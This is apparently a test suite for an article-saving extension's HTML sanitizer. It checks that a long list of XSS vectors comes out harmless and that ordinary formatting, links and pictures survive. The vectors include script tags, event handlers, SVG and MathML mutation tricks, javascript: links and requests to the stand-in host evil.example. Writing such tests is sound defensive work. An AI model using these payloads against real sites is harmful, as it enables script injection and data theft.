// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from '../../../core/sanitize/policy';
import { type BodyOptions, sanitizeBody } from '../../../core/sanitize/sanitize-body';

const KEPT = 'https://example.org/kept.png';
const BLOB = 'blob:chrome-extension://abc/1';

const options: BodyOptions = {
  pageUrl: 'https://example.org/article',
  pictureUrl: (url) => (url === KEPT ? BLOB : undefined),
  missingPicture: () => 'image not saved',
};

/** What a browser makes of the result: strings may lie, the parsed document does not. */
function shown(html: string): HTMLElement {
  return new DOMParser().parseFromString(sanitizeBody(html, options), 'text/html').body;
}

/** Whatever goes in, only this may come out. Says what does not hold, for a readable failure. */
function breaches(body: HTMLElement): string[] {
  return [...body.querySelectorAll('*')].flatMap((element) => {
    const tag = ALLOWED_TAGS.includes(element.localName) ? [] : [`<${element.localName}>`];
    return [...tag, ...[...element.attributes].flatMap((attribute) => breachOf(element, attribute))];
  });
}

function breachOf(element: Element, { name, value }: Attr): string[] {
  if (name === 'rel' && value === 'noopener noreferrer') return [];
  const holds =
    ALLOWED_ATTRIBUTES.includes(name) &&
    (name !== 'cite' || /^https?:\/\//i.test(value)) &&
    (name !== 'href' || /^(https?:\/\/|mailto:|#byline-)/i.test(value)) &&
    (name !== 'src' || value === BLOB || /^data:image\/(png|jpeg|jpg|gif|webp|avif);base64,/i.test(value)) &&
    (name !== 'id' || value.startsWith('byline-')) &&
    (name !== 'class' || value === 'missing-picture' || /^language-[\w+#-]+$/.test(value));
  return holds ? [] : [`${element.localName}[${name}=${value}]`];
}

const VECTORS: Record<string, string[]> = {
  scripts: [
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<p>a</p><script type="module">import("//evil.example")</script>',
    '<script\x00>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>a</p>',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<body onload=alert(1)><p>a</p>',
    '<a href="#a" onfocus=alert(1) autofocus tabindex=1>a</a>',
    '<img/src=x/onerror=alert(1)>',
    '<p popover ontoggle=alert(1) popovertarget=x>a</p>',
  ],
  svg: [
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><image href="https://evil.example/beacon.png" /></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
  ],
  mathml: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">a</maction></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ],
  clobbering: [
    '<form id=x><input name=attributes><input name=parentNode></form>',
    '<img name=getElementById><img id=body><a id=defaultView name=cookie>a</a>',
    '<p id="__proto__">a</p><p id="location">b</p>',
    '<form><input name=nodeName><input name=childNodes></form>',
  ],
  embedding: [
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
    '<applet code=x></applet><frameset><frame src="//evil.example"></frameset>',
  ],
  schemes: [
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">a</a>',
    '<a href=" \x01javascript:alert(1)">a</a>',
    '<a href="vbscript:x">a</a><a href="data:text/html,x">b</a><a href="blob:https://x/y">c</a>',
    '<a href="//evil.example">a</a><a href="/relative">b</a><a href="?q">c</a>',
    '<a href="file:///etc/passwd">a</a><a href="chrome-extension://abc/library.html">b</a><a href="ftp://x">c</a>',
    '<a href="https://x.example" ping="https://evil.example" target="_top" download>a</a>',
    '<blockquote cite="javascript:alert(1)">a</blockquote>',
  ],
  requests: [
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=prefetch href="https://evil.example"><link rel=stylesheet href="//evil.example">',
    '<base href="https://evil.example/"><a href="x">a</a>',
    '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/b.png" loading=lazy>',
    '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/b.png"></picture>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio><track src="https://evil.example/t.vtt">',
    '<p style="background:url(https://evil.example)">a</p><style>@import "//evil.example"</style>',
    '<table background="https://evil.example/b.png"><td background="https://evil.example/c.png">a</table>',
    '<input type=image src="https://evil.example/i.png"><form action="https://evil.example"><button>Go</button></form>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
    '<map name=m><area href="https://evil.example"></map><img usemap="#m" ismap src=x>',
    '<math><mi mathbackground="url(https://evil.example)" style="background:url(//evil.example)">x</mi></math>',
  ],
};

describe('what comes out of a hostile body', () => {
  for (const [kind, vectors] of Object.entries(VECTORS)) {
    it.each(vectors)(`${kind}: %s`, (vector) => {
      expect(breaches(shown(`<p>before</p>${vector}`))).toEqual([]);
    });
  }

  it('holds for any mixture of them', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...Object.values(VECTORS).flat(),
        '</p>',
        '<p>',
        '<table>',
        '</math>',
        '<!--',
        '-->',
        ']]>',
        '<svg>',
      ),
      fc.string({ maxLength: 20 }),
      fc.constantFrom(...ALLOWED_TAGS).map((tag) => `<${tag} id=x class=y style=z onclick=a href=javascript:b src=c>`),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => breaches(shown(pieces.join(''))).length === 0),
      { numRuns: 300 },
    );
  });

  it('stays the same when it is sanitised again', () => {
    const twice = (html: string) => sanitizeBody(sanitizeBody(html, options), { ...options, pictureUrl: (url) => url });
    for (const vector of Object.values(VECTORS).flat()) expect(breaches(parse(twice(vector)))).toEqual([]);
  });
});

const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html').body;

describe('what is kept', () => {
  it('text, tables, lists, ruby and the language of code', () => {
    const html =
      '<h2 dir="rtl" lang="ar">أ</h2><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
      '<ol start="3"><li value="4">a</li></ol><ruby>漢<rt>かん</rt></ruby><pre><code class="hljs language-js">x</code></pre>';
    const body = shown(html);
    expect(body.querySelector('h2')?.getAttribute('lang')).toBe('ar');
    expect(body.querySelector('td')?.getAttribute('colspan')).toBe('2');
    expect(body.querySelector('li')?.getAttribute('value')).toBe('4');
    expect(body.querySelector('rt')?.textContent).toBe('かん');
    expect(body.querySelector('code')?.className).toBe('language-js');
  });

  it('the text of tags that are not allowed, but not what was never text', () => {
    expect(shown('<font>a</font><custom-tag>b</custom-tag><style>c</style><button>d</button>').textContent).toBe('ab');
  });

  it('formulas, without their source code', () => {
    const body = shown(
      '<math display="block"><semantics><msup><mi>c</mi><mn>2</mn></msup>' +
        '<annotation encoding="application/x-tex">c^2</annotation></semantics></math>',
    );
    expect(body.querySelector('msup')?.namespaceURI).toBe('http://www.w3.org/1998/Math/MathML');
    expect(body.textContent).toBe('c2');
  });
});

describe('links', () => {
  it('within the text lead to its own places, under our prefix', () => {
    const body = shown('<a href="#note">1</a><p id="note">a</p>');
    expect(body.querySelector('a')?.getAttribute('href')).toBe('#byline-note');
    expect(body.querySelector('p')?.id).toBe('byline-note');
  });

  it('to a place on the page itself become links within the text, if the text has the place', () => {
    const body = shown(
      '<a href="https://example.org/article#note">1</a><a href="https://example.org/article#menu">2</a><p id="note">a</p>',
    );
    expect([...body.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual([
      '#byline-note',
      'https://example.org/article#menu',
    ]);
  });

  it('to other places say nothing of where the reader comes from', () => {
    expect(shown('<a href="https://x.example">a</a>').querySelector('a')?.rel).toBe('noopener noreferrer');
  });
});

describe('pictures', () => {
  it('that are stored are shown from the library', () => {
    expect(shown(`<img src="${KEPT}" alt="a">`).querySelector('img')?.getAttribute('src')).toBe(BLOB);
  });

  it('that are missing give way to their words, and load nothing', () => {
    const body = shown('<figure><img src="https://example.org/lost.png" alt="A map"></figure>');
    expect(body.querySelector('img')).toBeNull();
    expect(body.textContent).toBe('A map — image not saved');
  });

  it('that the page carries in its text stay', () => {
    const inline = 'data:image/png;base64,iVBORw0KGgo=';
    expect(shown(`<img src="${inline}">`).querySelector('img')?.getAttribute('src')).toBe(inline);
  });
});
